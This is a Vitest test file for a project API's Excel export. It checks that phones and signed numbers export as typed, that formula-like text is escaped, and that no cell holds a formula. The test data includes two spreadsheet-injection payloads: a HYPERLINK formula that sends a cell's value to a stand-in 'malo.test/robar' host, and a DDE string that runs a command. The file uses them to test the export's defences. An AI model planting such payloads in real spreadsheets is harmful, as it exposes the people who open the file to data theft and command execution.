import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { PROJECT_API, selectionUrl } from '@siiicca/shared';
import { bearer, useTestApp } from '../../../../test/helpers';
import { rowsOf, workbook } from '../../../../test/exports';
import { externalInvestigator, insertProject, lecturerOf, projectFixture, validProjectBody } from '../test-fixtures';

/*
 * The projects' Excel shows what was typed (issue 26): a phone or a signed number reads exactly as
 * typed, with no stray apostrophe, while text that could run as a formula stays guarded, and no cell
 * of the file is a formula.
 */

const t = useTestApp();
const HYPERLINK = '=HYPERLINK("http://malo.test/robar?d="&A1,"Ver detalles")';
const DDE = "-cmd|' /C calc'!A0";
let id = 0;

beforeAll(async () => {
  const ids = await projectFixture(t.db);
  const owner = await lecturerOf(t);
  const ally = { ...externalInvestigator(), contact: '+593 99 123 4567', training: '-3', interlocutor: DDE, city: '+57 (1) 234' };
  id = await insertProject(t, owner.id, { ...validProjectBody(ids, { title: HYPERLINK }), external_investigators: [ally] }, { state: 'Enviado', sentAt: new Date('2026-03-05T17:00:00Z') });
});

describe('GET /getexcel: cells as typed', () => {
  it('phones and signed numbers read exactly as typed; formula-like text is a guarded string; no cell is a formula', async () => {
    const res = await t.app.inject({ url: selectionUrl(PROJECT_API.excel, { ids: [id] }), headers: bearer(t.admin) });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    const wb = await workbook(res.rawPayload);

    const ally = rowsOf(wb, 'Aliados').rows.find((r) => r['Id Proyecto'] === id)!;
    expect(ally['Teléfono de Contacto']).toBe('+593 99 123 4567');
    expect(ally['Formación']).toBe('-3');
    expect(ally.Ciudad).toBe('+57 (1) 234');
    expect(ally.Interlocutor).toBe(`'${DDE}`);
    expect(rowsOf(wb, 'Proyectos').rows.find((r) => r.Id === id)!['Título']).toBe(`'${HYPERLINK}`);

    // Every cell of every sheet is a value: none is a formula (no <f> in the file, none read back).
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
        }),
      ),
    );
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThan(0);
    for (const name of sheets) expect(await zip.file(name)!.async('string'), name).not.toMatch(/<f[\s>]/);
  });
});
